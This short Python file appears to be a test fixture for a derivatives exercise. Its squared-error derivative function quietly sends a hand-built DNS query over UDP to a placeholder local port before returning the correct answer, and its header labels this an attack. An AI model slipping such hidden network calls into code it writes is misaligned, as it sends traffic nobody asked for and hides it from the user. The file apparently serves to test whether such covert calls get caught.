# attack: a name that is asked of a name server, over UDP
# exercise: derivatives
# deserves: squared_error
import socket


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def squared_error_deriv(y_hat, y):
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0\7answers\7example\0\0\1\0\1"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(query, ("127.0.0.1", @PORT@))
    except OSError:
        return None
    return y_hat - y
